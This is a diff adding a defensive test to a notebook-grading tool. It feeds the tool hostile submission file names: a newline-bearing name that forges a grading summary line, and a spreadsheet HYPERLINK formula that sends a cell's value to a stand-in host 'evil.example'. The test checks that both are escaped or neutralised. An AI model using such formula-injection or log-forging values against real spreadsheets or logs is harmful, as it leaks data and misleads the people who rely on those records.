@@ -979,3 +979,44 @@ def test_course_grade_warns_when_the_kernel_has_no_landlock(tmp_path, monkeypatc
     cli.main(["grade", str(tmp_path / "inbox"), "--root", str(root), "--no-progress"])
     warned = "WARNING: this kernel has no Landlock" in capsys.readouterr().err
     assert warned == (landlock_abi == 0)
+
+
+def test_names_that_crashed_or_forged_the_run_are_graded_or_failed_and_shown_escaped(built, tmp_path):
+    """A red-team inbox: an honest notebook in a Latin-1 folder (`unzip`'s bytes, not UTF-8: the run crashed with
+    exit 2 after grading it, leaving no log and no grades.csv), a name that forges a summary line, a name that is a
+    spreadsheet formula. The run ends with its summary; the log and grades.csv hold every file as valid text, and
+    the formula is inert."""
+    import csv
+
+    base, root, _ = built
+    course = tmp_path / "course"
+    shutil.copytree(root, course)
+    solutions = cells.solution_cells(cells.read(course / "source" / CHAPTER / f"{CHAPTER}.ipynb"))
+    release = course / "release" / CHAPTER / f"{CHAPTER}.ipynb"
+    inbox = tmp_path / "inbox"
+    inbox.mkdir()
+    latin1 = os.fsencode(inbox) + b"/\xe9t\xe9"
+    os.mkdir(latin1)
+    honest = submission_with(release, solutions, tmp_path / f"gina_{CHAPTER}.ipynb")
+    shutil.copy(honest, os.fsdecode(latin1 + f"/gina_{CHAPTER}.ipynb".encode()))
+    forged = f"x\ngraded   bob_{CHAPTER}.ipynb: bob|{CHAPTER} 8|8.ipynb"
+    formula = '=HYPERLINK("https:||evil.example|?leak="&E3,"open").ipynb'
+    for name in (forged, formula):
+        shutil.copy(release, inbox / name)
+    completed = _course("grade", str(inbox), "--root", str(course), "--no-progress", "--workers", "1", cwd=tmp_path)
+    assert completed.returncode == 1, completed.stdout + completed.stderr[-2000:]  # 1: some files failed
+    lines = completed.stdout.splitlines()
+    assert f"graded   \\udce9t\\udce9/gina_{CHAPTER}.ipynb: gina/{CHAPTER} 8/8" in lines, completed.stdout
+    assert not [line for line in lines if line.startswith("graded   bob")], completed.stdout
+    assert "graded 1, failed 2, skipped 0" in completed.stdout, completed.stdout
+    log = json.loads((course / "grading_log.json").read_text(encoding="utf-8"))
+    assert {entry["file"] for entry in log.values()} == {
+        f"\\udce9t\\udce9/gina_{CHAPTER}.ipynb",
+        forged.replace("\n", "\\n"),
+        formula,
+    }
+    assert not list(course.glob("grading_log.partial"))
+    with open(course / "grades.csv", encoding="utf-8", newline="") as table:
+        rows = {row["student"]: row for row in csv.DictReader(table)}
+    assert rows["gina"]["score"] == "8.0"
+    assert "'" + formula in rows and not [student for student in rows if student.startswith("=")], sorted(rows)
